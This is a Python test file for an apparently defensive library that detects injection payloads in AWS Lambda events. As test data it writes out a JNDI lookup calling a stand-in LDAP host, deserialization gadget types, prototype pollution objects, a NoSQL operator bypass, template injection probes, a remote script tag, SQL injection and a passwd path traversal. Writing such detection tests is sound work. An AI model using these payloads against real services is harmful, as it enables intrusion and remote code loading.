"""Injection payloads in caller-controlled strings: where they are looked for, and how a false alarm is answered."""

import base64
import json

import pytest
from shapes import ATTACK, Context, api_event, findings_in, sqs_event

from lambdaguard import Rule, guard

SCRIPT = "<script>alert(1)</script>"


def rules(event, **settings):
    """``(rule, path, action)`` of every finding."""
    return guard(lambda event, context: [], on_block=_found, **settings)(event, Context())


def _found(inv):
    return [(finding.rule_id, finding.path, finding.action) for finding in inv.findings]


def families(event, **settings):
    return {rule.split("-")[1] for rule, _, action in rules(event, **settings) if action == "blocked"}


@pytest.mark.parametrize(
    "event",
    [
        api_event({"order": {"note": ATTACK}}),
        api_event({ATTACK: "as a name"}),
        api_event(json.dumps({"inner": json.dumps({"q": ATTACK})})),
        api_event("q=" + ATTACK.replace(" ", "+").replace("'", "%27"))
        | {"headers": {"content-type": "application/x-www-form-urlencoded"}},
        api_event() | {"body": base64.b64encode(ATTACK.encode()).decode(), "isBase64Encoded": True},
        api_event(query={"q": ATTACK}),
        api_event(path=f"/orders/{ATTACK}"),
        api_event() | {"headers": {"X-Thing": ATTACK}},
        api_event() | {"headers": {"Cookie": f"a=1; b={ATTACK.replace(';', '%3B')}"}},
    ],
)
def test_a_payload_is_found_wherever_it_is_packed(event):
    assert "SQL" in families(event)


@pytest.mark.parametrize(
    ("body", "family"),
    [
        ({"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://203.0.113.66/a"}, "DESER"),
        ({"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework"}, "DESER"),
        ({"constructor": {"prototype": {"admin": True}}}, "PROTO"),
        ({"__class__": {"__init__": {"__globals__": {"secret": 1}}}}, "PROTO"),
        ({"password": {"$ne": None}}, "NOSQL"),
    ],
)
def test_names_that_mean_something_only_with_their_values(body, family):
    assert family in families(api_event(body))
    with pytest.raises(Exception, match=family):
        guard(lambda event, context: None)(sqs_event(body), Context())


@pytest.mark.parametrize(
    "body",
    [
        {"@context": "https://schema.org", "@type": "Person", "name": "Jane Doe"},
        {"$schema": "https://json-schema.org/draft/2020-12/schema", "$id": "https://example.com/a", "type": "object"},
        {"constructor": "McLaren", "driver": "L. Norris"},
        {"name": "O'Brien", "about": "select a union rep; it's 5 < 6 & fine", "code": "`npm install` && npm test"},
    ],
)
def test_ordinary_bodies_pass(body, capsys):
    assert rules(api_event(body)) == []
    assert capsys.readouterr().out == ""


@pytest.mark.parametrize(
    "ignore",
    [
        {"body.bio": ["xss"]},
        {"body.*": ["xss", "sql"]},
        {"*": "xss"},
        {"body.bio": ["*"]},
    ],
)
def test_a_field_can_be_exempted_from_a_family(ignore):
    assert rules(api_event({"bio": SCRIPT}), injection={"ignore": ignore}) == []


@pytest.mark.parametrize(
    "path", ["header.x-note", "header.X-Note", "headers.X-Note", "headers.x-note", "multiValueHeaders.X-Note"]
)
def test_a_field_may_be_named_as_in_the_event(path):
    event = api_event({})
    event["headers"] = {**(event.get("headers") or {}), "X-Note": SCRIPT}
    assert rules(event, injection={"ignore": {"query.*": ["xss"]}}) != []
    assert rules(event, injection={"ignore": {path: ["xss"]}}) == []


def test_an_exemption_holds_for_its_field_alone():
    event = api_event({"bio": SCRIPT, "name": SCRIPT})
    assert {path for _, path, _ in rules(event, injection={"ignore": {"body.bio": ["xss"]}})} == {"body.name"}


def test_a_single_rule_can_be_exempted_or_turned_off():
    event = api_event(query={"q": ATTACK})
    ids = {rule for rule, _, _ in rules(event)}
    assert rules(event, injection={"ignore": {"query.q": sorted(ids)}}) == []
    assert ids.isdisjoint(rule for rule, _, _ in rules(event, injection={"rules": {"off": sorted(ids)}}))
    assert rules(event, injection={"off": ["sql", "nosql", "xpath", "ldap", "shell", "code", "xss"]}) == []


@pytest.mark.parametrize("needles", [("acme-canary",), ("ACME-Canary",), ()])
def test_rules_of_the_users_own(needles):
    canary = Rule("ACME-001", "canary", "a canary token is used", cwe=200, needles=needles, pattern=r"acme-canary-\d+")
    assert rules(api_event({"a": "ACME-Canary-77"}), injection={"extra": [canary]}) == [("ACME-001", "body.a", "blocked")]


def test_the_same_header_twice_is_told_once(capsys):
    event = api_event()
    event["headers"]["X-Thing"] = event["multiValueHeaders"]["X-Thing"] = ATTACK
    event["multiValueHeaders"]["X-Thing"] = [ATTACK]
    guard(lambda event, context: None)(event, Context())
    told = [(line["unmapped"]["lambdaguard"]["rule_id"]) for line in findings_in(capsys.readouterr().out)]
    assert len(told) == len(set(told))


def test_repeating_an_attack_does_not_wear_it_down():
    guarded = guard(lambda event, context: "ran", on_block=lambda inv: "refused")
    assert [guarded(api_event({"bio": SCRIPT}), None) for _ in range(5)] == ["refused"] * 5


def test_a_finding_shows_the_shape_of_what_was_found_and_none_of_its_words(capsys):
    guard(lambda event, context: None)(api_event({"q": "zanzibar' UNION SELECT hunter2 FROM dual --"}), Context())
    (found, *_) = findings_in(capsys.readouterr().out)
    excerpt = found["unmapped"]["lambdaguard"]["excerpt"]
    assert "UNION SELECT" in excerpt
    assert "zanzibar" not in json.dumps(found)
    assert "hunter2" not in json.dumps(found)


@pytest.mark.parametrize("cookie", ["<script src=//evil.example/x.js></script>", "x; <script src=//evil.example/x.js></script>"])
def test_a_cookie_whose_name_is_none_is_read_as_a_whole_too(cookie):
    event = {
        "version": "2.0",
        "routeKey": "$default",
        "rawPath": "/",
        "requestContext": {"http": {"method": "GET"}},
        "headers": {},
    }
    event["cookies"] = ["theme=dark", cookie]
    assert ("LG-XSS-001", "cookie", "blocked") in rules(event)


PAGES = "{{7*7}}{{''.__class__.__mro__}}"


@pytest.mark.parametrize(
    ("event", "path", "rule", "also"),
    [
        (api_event({"note": PAGES}), "body.note", "LG-TMPL-001", {"LG-TMPL-002", "LG-PROTO-002"}),
        (api_event(query={"q": PAGES}), "query.q", "LG-TMPL-001", {"LG-TMPL-002", "LG-PROTO-002"}),
        (api_event({"note": "${jndi:ldap://203.0.113.66/a}"}), "body.note", "LG-JNDI-001", {"LG-SSRF-012"}),
        (api_event({"notes": {"a": ["${jndi:ldap://203.0.113.66/a}"]}}), "body.notes.a[0]", "LG-JNDI-001", {"LG-SSRF-012"}),
    ],
)
def test_what_refuses_an_event_is_told_once_with_all_the_rules_that_hold(event, path, rule, also):
    """Nor is it told again of the body that holds it."""
    (finding,) = guard(lambda event, context: [], on_block=lambda inv: inv.findings)(event, Context())
    assert (finding.path, finding.rule_id, finding.action) == (path, rule, "blocked")
    assert set(finding.detail["also"]) >= also


def test_who_only_watches_is_told_each_rule(capsys):
    guard(lambda event, context: [], mode="monitor")(api_event({"note": PAGES}), Context())
    told = {line["finding_info"]["analytic"]["uid"] for line in findings_in(capsys.readouterr().out)}
    assert told >= {"LG-TMPL-001", "LG-TMPL-002", "LG-PROTO-002"}


def test_another_attack_in_the_same_event_is_told_too():
    told = rules(api_event({"note": PAGES, "path": "../../../etc/passwd"}))
    assert {path for _, path, _ in told} == {"body.note", "body.path"}
